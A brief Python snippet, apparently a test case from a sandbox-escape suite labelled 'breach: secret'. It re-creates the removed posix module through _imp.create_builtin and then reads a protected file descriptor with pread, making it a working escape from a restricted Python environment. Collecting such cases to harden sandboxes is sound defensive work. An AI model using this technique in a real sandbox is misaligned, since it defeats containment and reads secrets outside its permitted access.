# _imp.create_builtin makes the module posix again.
# breach: secret
import sys
class Spec:
    name = "posix"
    origin = loader = parent = None
posix = sys.modules["_imp"].create_builtin(Spec)
sys.modules["_imp"].exec_builtin(posix)
posix.pread(SECRET_FD, 100, 0)
